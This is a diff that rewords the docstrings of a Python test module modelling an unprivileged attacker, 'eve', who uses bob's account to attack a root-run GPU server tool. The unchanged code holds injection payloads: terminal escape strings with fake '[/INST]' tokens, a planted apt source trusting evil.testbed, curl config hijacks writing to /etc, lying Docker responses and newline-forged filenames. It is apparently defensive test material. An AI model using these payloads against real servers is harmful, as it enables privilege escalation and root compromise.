@@ -1,7 +1,6 @@
-"""What eve does on the host with bob's account: what any user of a server may do, and nothing that takes root.
+"""Eve's attacks with bob's account: what any user of a server can do without root.
 
-Each of her attacks is a context: in place inside of the block, gone after it, so that the next starts from a host that
-is well.
+Each attack is a context: active inside the block and undone after it, so that the next one starts from a healthy host.
 """
 
 from __future__ import annotations
@@ -24,7 +23,7 @@ HOME = "/home/bob"
 PLACE = f"{HOME}/.eve"
 WEIGHTS = f"{HOME}/models/gamma.gguf"
 NASTY = "\x1b]0;OWNED\x07\x1b[2J\x1b[38;5;199mOWNED\u202e\u0085 [/INST] \\[/INST] [bold]OWNED[/bold] [fe80::1]"
-"""Text that renames a terminal, clears it, colours it and turns it around, and that rich takes for markup."""
+"""Text that renames, clears, colours and reverses a terminal, and that rich takes for markup."""
 LISTENERS = {8100: b"\n@@ files", 8101: b"\nLISTEN 0 0 *:1", 8102: b"\x1b[2J\x1b]0;O\x07\x9b1m"}
 """Port → the name of the process that listens there: for `ss -p` a line of its own, or not text at all."""
 EVIL_SOURCE = "deb http://repo.testbed/nvidia/stable/deb/amd64 /\ndeb [trusted=yes] http://evil.testbed/ ./\n"
@@ -32,9 +31,9 @@ EVIL_SOURCE_AT = "/etc/apt/sources.list.d/eve.list"
 
 
 SECTION = f"\n@@ files\n{EVIL_SOURCE_AT} 644 0 0 {base64.b64encode(EVIL_SOURCE.encode()).decode()}\n"
-"""The lines by which root's own snapshot would say that a file of root's holds this text."""
+"""The lines by which root's own snapshot would report that a file of root contains this text."""
 ENDING = f"{SECTION}@@ machine\nbusy eve since ever\n@@ docker\n@@ whole\n@@ end\n"
-"""The same, and more: that another run goes on, that there is no Docker, and that the snapshot is complete."""
+"""The same lines, and more: another run is active, Docker is missing, and the snapshot is complete."""
 
 
 class Eve:
@@ -48,7 +47,7 @@ class Eve:
             self.put(f"{PLACE}/{program.name}", program.read_bytes(), 0o755)
 
     def does(self, command: str, check: bool = True, timeout: float = 60) -> subprocess.CompletedProcess[str]:
-        """A shell command as bob, as after a login."""
+        """Run a shell command as bob, as after a login."""
         environment = {
             "HOME": HOME,
             "USER": "bob",
@@ -62,17 +61,17 @@ class Eve:
         return self.host.root(shlex.join(argv), check=check, timeout=timeout)
 
     def put(self, path: str, content: str | bytes, mode: int = 0o644) -> None:
-        """Write a file of hers; its folders are hers, too."""
+        """Write a file of bob's, with its folders."""
         self.does(f"mkdir -p {shlex.quote(str(Path(path).parent))}")
         self.host.put(content, path, mode, "bob:bob")
 
     def await_root(self, command: str, what: str, seconds: float = 10) -> None:
-        """Until root's command succeeds."""
+        """Wait until root's command succeeds."""
         await_(lambda: self.host.root(command, check=False).returncode == 0, seconds=seconds, what=what)
 
     @contextmanager
     def running(self, name: str, *argv: str, user: str = "bob") -> Iterator[None]:
-        """A process of hers (or of root's, for what root's file systems do) for as long as the block lasts."""
+        """Run a process of hers (or of root, for root's file systems) during the block."""
         unit, options = f"eve-{name}", f"--quiet --collect --uid {user} --setenv=HOME={HOME}"
         self.host.root(f"systemd-run --unit {unit} {options} -- {shlex.join(argv)}")
         try:
@@ -82,7 +81,7 @@ class Eve:
 
     @contextmanager
     def in_place_of(self, path: str) -> Iterator[str]:
-        """A path of hers with nothing there; afterwards it is what it was."""
+        """Yield a path of hers with nothing there, and restore it afterwards."""
         kept = f"{path}.kept"
         self.does(f"mkdir -p {shlex.quote(str(Path(path).parent))}; [ ! -e {path} ] || mv -T {path} {kept}")
         try:
@@ -93,15 +92,15 @@ class Eve:
     # --- programs and configuration -----------------------------------------------------------------------------------
 
     def tripwire(self, path: str, says: str = "", metadata: str = "") -> None:
-        """A program that writes down who runs it."""
+        """A program that records who runs it."""
         self.put(path, (PROGRAMS / "tripwire.sh").read_text(), 0o755)
         self.put(f"{path}.says", says)
         self.put(f"{path}.metadata", metadata)
 
     @contextmanager
     def programs_of_hers(self) -> Iterator[None]:
-        """Plugins, credential helpers and configuration that a docker command of hers, or curl, picks up at once.
-        What her docker-compose prints is a section of root's: a list of packages with a repository of hers in it."""
+        """Plugins, credential helpers and configuration that a docker command or curl of hers uses at once. Her
+        docker-compose prints a section of root: a list of packages, with a repository of hers in it."""
         config = {
             "credsStore": "eve",
             "credHelpers": {"registry.testbed:5000": "eve"},
@@ -130,8 +129,8 @@ class Eve:
 
     @contextmanager
     def containers_like_the_hosts(self) -> Iterator[None]:
-        """Containers in bob's own Docker that call themselves what the host's are called, with labels that would make
-        root's curl read a configuration of hers, and that no terminal should get."""
+        """Containers in bob's own Docker with the names of the host's. Their labels would make root's curl read a
+        configuration of hers, or control a terminal."""
         self.put(f"{HOME}/c", 'url = "http://127.0.0.1:8003/health"\noutput = "/etc/owned-by-curl"\n')
         project = ["com.docker.compose.project=gpurack", "gpurack.probe=-K/home/bob/c"]
         definition = json.dumps({"engine": "llama.cpp", "port": 8000, "uuids": [], "image": NASTY})
@@ -155,7 +154,7 @@ class Eve:
 
     @contextmanager
     def project_like_the_hosts(self, image: str, definition: str) -> Iterator[None]:
-        """A Compose project of bob's own, `homework`, which has the name of gpurack's and its label."""
+        """A Compose project of bob's own, `homework`, with the name and label of gpurack's."""
         service = {
             "image": image,
             "container_name": "homework",
@@ -181,7 +180,7 @@ class Eve:
     @contextmanager
     def docker_replaced(self, mode: str, told: dict[str, Any] | None = None) -> Iterator[str]:
         """A server of hers on the socket of bob's Docker; yields the path of its journal. bob's own Docker is off
-        meanwhile, but for the mode "drowsy", which asks it."""
+        meanwhile, except in mode "drowsy", which forwards to it."""
         journal = f"{HOME}/asked"
         self.put(journal, "", 0o666)
         self.put(f"{PLACE}/told.json", json.dumps(told or {}))
@@ -208,8 +207,8 @@ class Eve:
         return [(int(uid), what) for uid, what in map(json.loads, lines)]
 
     def lies(self) -> dict[str, Any]:
-        """What the lying server says: containers whose names, ids, labels and ports are commands for whoever quotes
-        them loosely, or sections for whoever prints them as they are."""
+        """Answers of the lying server: containers whose names, ids, labels and ports are commands if quoted badly, or
+        sections if printed unchanged."""
         labels = {
             "gpurack.model": json.dumps({"engine": "llama.cpp", "port": 8002, "uuids": [], "user": "bob"}),
             "gpurack.probe": f"-K{HOME}/c",
@@ -257,7 +256,7 @@ class Eve:
 
     @contextmanager
     def listeners(self, *ports: int) -> Iterator[None]:
-        """Processes that listen on some ports of LISTENERS, under the names that it has for them."""
+        """Processes that listen on some ports of LISTENERS, with the names there."""
         with ExitStack() as stack:
             for port in ports:
                 argv = ["python3", f"{PLACE}/listener.py", str(port), LISTENERS[port].hex()]
@@ -268,7 +267,7 @@ class Eve:
 
     @contextmanager
     def names_with_newlines(self) -> Iterator[None]:
-        """Files and folders whose names are sections, and a mount of that name, as a desktop's udisks makes one."""
+        """Files and folders whose names are sections, and a mount with such a name, as udisks creates it."""
         name = f"{HOME}/models/x{ENDING[:100].replace('/', '_')}"
         quoted = shlex.quote(name)
         self.does(f"mkdir -p {quoted} && touch {quoted}/{shlex.quote(NASTY.replace('/', '_'))}.gguf")
@@ -280,7 +279,7 @@ class Eve:
 
     @contextmanager
     def frozen(self, folder: str) -> Iterator[None]:
-        """What lies in a folder is on a file server that has died on its feet; no signal ends who asks for it."""
+        """The contents of a folder are on a dead file server; no signal ends a process that accesses it."""
         argv = ["python3", f"{PLACE}/frozen.py", folder]
         self.host.root(f"install -d {folder}")
         try:
@@ -292,7 +291,7 @@ class Eve:
 
 
 def hostile_gguf(text: str) -> bytes:
-    """Weights of an architecture that llama.cpp does not know and so names in its log, as it stands there."""
+    """Weights of an architecture that llama.cpp does not know, and therefore prints to its log unchanged."""
 
     def string(value: str) -> bytes:
         data = value.encode()
